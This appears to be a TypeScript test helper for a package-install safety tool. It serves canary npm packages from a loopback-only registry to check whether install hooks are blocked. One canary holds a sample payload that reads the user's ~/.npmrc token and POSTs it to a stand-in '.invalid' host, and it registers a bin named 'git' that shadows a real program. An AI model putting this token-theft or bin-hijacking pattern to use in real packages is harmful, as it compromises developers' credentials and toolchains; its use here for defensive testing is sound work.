import { createHash } from 'node:crypto'
import { createServer } from 'node:http'
import { gzipSync } from 'node:zlib'

/** A harmless package of our own: what it would do if nothing stopped it is to create an empty file. */
type Canary = { readonly name: string; readonly manifest: object; readonly tarball: Buffer }

/** A registry on a loopback port that serves the canaries. */
export type CanaryRegistry = { readonly url: string; close(): Promise<void> }

/** Has an install script, and nothing else to say against it. */
export const hookCanary = 'safe-install-canary-hook'

/** Has no install script; what it does, it would do when imported or started. Nobody ever imports it. */
export const importCanary = 'safe-install-canary-import'

const version = '1.0.0'

/** Both canaries; `marker` is the file they would create. */
function canaries(marker: string): readonly Canary[] {
  const touch = `#!/usr/bin/env node\nrequire('node:fs').writeFileSync(${JSON.stringify(marker)}, '')\n`
  return [
    pack(hookCanary, { scripts: { postinstall: 'node hook.js' } }, { 'hook.js': touch }),
    // The shape of a stolen token and a bin in another program's place: both are evidence, neither is ever run.
    pack(
      importCanary,
      { main: 'index.js', bin: { [importCanary]: 'run.js', git: 'run.js' } },
      { 'index.js': stealing, 'run.js': touch },
    ),
  ]
}

const stealing = `const { readFileSync } = require('node:fs')
const { homedir } = require('node:os')
const token = readFileSync(homedir() + '/.npmrc', 'utf8')
fetch('https://safe-install-canary.invalid/', { method: 'POST', body: token })
`

function pack(name: string, manifest: object, files: Readonly<Record<string, string>>): Canary {
  const whole = {
    name,
    version,
    description: 'A harmless canary of safe-install --doctor',
    license: 'MIT',
    ...manifest,
  }
  const entries = Object.entries({ 'package.json': `${JSON.stringify(whole, null, 2)}\n`, ...files })
  const tar = Buffer.concat([
    ...entries.map(([path, text]) => tarEntry(`package/${path}`, text)),
    Buffer.alloc(1024),
  ])
  return { name, manifest: whole, tarball: gzipSync(tar) }
}

/** One regular file of a ustar archive. */
function tarEntry(path: string, text: string): Buffer {
  const body = Buffer.from(text)
  const header = Buffer.alloc(512)
  const octal = (value: number, at: number, length: number): number =>
    header.write(`${value.toString(8).padStart(length - 1, '0')}\0`, at)
  header.write(path, 0, 100)
  octal(0o755, 100, 8)
  octal(0, 108, 8)
  octal(0, 116, 8)
  octal(body.length, 124, 12)
  octal(0, 136, 12)
  header.write('        0', 148)
  header.write('ustar\u000000', 257)
  octal(
    header.reduce((sum, byte) => sum + byte, 0),
    148,
    7,
  )
  return Buffer.concat([header, body, Buffer.alloc((512 - (body.length % 512)) % 512)])
}

/** Starts the registry. It listens on the loopback address alone and serves nothing but the canaries. */
export async function startCanaryRegistry(marker: string): Promise<CanaryRegistry> {
  const byName = new Map(canaries(marker).map(canary => [canary.name, canary]))
  let url = ''
  const server = createServer((request, response) => {
    const [name = '', file] = (request.url ?? '').slice(1).split('/-/')
    const canary = byName.get(decodeURIComponent(name))
    if (canary === undefined) {
      response.writeHead(404, { 'content-type': 'application/json' }).end('{"error":"not found"}')
      return
    }
    const body = file === undefined ? Buffer.from(JSON.stringify(packumentOf(canary, url))) : canary.tarball
    const type = file === undefined ? 'application/json' : 'application/octet-stream'
    response.writeHead(200, { 'content-type': type, 'content-length': body.length }).end(body)
  })
  await new Promise<void>((resolve, reject) => {
    server.once('error', reject)
    server.listen(0, '127.0.0.1', resolve)
  })
  const address = server.address()
  if (address === null || typeof address === 'string') throw new Error('the loopback registry has no port')
  url = `http://127.0.0.1:${address.port}`
  return {
    url,
    close: () =>
      new Promise(resolve => {
        server.close(() => resolve())
        server.closeAllConnections()
      }),
  }
}

function packumentOf({ name, manifest, tarball }: Canary, url: string): object {
  const integrity = `sha512-${createHash('sha512').update(tarball).digest('base64')}`
  const hasInstallScript = 'scripts' in manifest
  const dist = { tarball: `${url}/${name}/-/${name}-${version}.tgz`, integrity }
  return {
    name,
    'dist-tags': { latest: version },
    versions: { [version]: { ...manifest, hasInstallScript, dist } },
  }
}
